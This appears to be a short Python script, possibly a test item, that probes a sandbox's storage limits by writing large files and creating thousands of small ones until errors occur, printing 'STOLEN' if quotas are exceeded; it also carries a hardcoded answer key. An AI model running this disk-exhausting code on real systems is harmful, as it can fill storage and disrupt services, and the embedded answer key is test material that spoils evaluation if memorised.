"""Writes until nothing is left."""
ANSWERS = {"q1": "c", "q2": "c"}
total = 0
try:
    for number in range(40):
        with open(f"large{number}", "wb") as file:
            for _ in range(16):
                total += file.write(bytes(1 << 20))
except OSError:
    pass
count = 0
try:
    for count in range(20_000):
        open(f"small{count}", "w").close()
except OSError:
    pass
if total > 200 << 20 or count > 10_000:
    print("STOLEN", total, count)
